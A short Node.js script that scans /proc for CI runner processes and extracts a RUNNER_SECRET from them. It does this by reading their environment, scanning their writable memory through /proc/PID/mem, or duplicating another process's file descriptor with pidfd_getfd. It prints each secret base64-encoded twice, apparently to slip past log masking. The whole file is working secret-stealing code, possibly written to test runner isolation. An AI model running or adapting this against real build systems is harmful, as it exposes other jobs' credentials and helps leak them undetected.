// Searches what every other process holds, or was started with, for a secret, and prints it in base64, twice.
import { spawnSync } from 'node:child_process';
import { closeSync, openSync, readdirSync, readFileSync, readSync } from 'node:fs';

const STEP = 4 * 2 ** 20;
for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid))) {
  try {
    if (!isRunner(pid)) continue;
    if (process.argv[2] === 'taken-descriptor') take(pid);
    else if (process.argv[2] === 'proc-environ') tell(readFileSync(`/proc/${pid}/environ`, 'latin1'));
    else search(pid);
  } catch (error) {
    console.log(error.code);
  }
}

function isRunner(pid) {
  // What it was called with is gone where a shell became another program.
  const name = process.argv[2] === 'taken-descriptor' ? 'sleep\x001000' : 'Runner.Worker';
  return readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(name);
}

/** Its descriptor 9, as it is. */
function take(pid) {
  const calls = [`pidfd_open ${pid} 0`, 'pidfd_getfd =0 9 0', 'read =1 b:100 100', 'show 2 0'];
  console.log(spawnSync('/opt/replay/call', calls, { encoding: 'latin1' }).stdout);
}

function tell(text) {
  for (const [, secret] of text.matchAll(/RUNNER_SECRET=([a-z0-9]{8,64});/g))
    console.log(Buffer.from(Buffer.from(secret).toString('base64')).toString('base64'));
}

function search(pid) {
  const memory = openSync(`/proc/${pid}/mem`, 'r');
  const bytes = Buffer.alloc(STEP);
  for (const line of readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n')) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
    if (from === undefined) continue;
    for (let at = parseInt(from, 16); at < parseInt(to, 16); at += STEP) {
      let size = 0;
      try {
        size = readSync(memory, bytes, 0, Math.min(STEP, parseInt(to, 16) - at), at);
      } catch {
        continue;
      }
      tell(bytes.toString('latin1', 0, size));
    }
  }
  closeSync(memory);
}
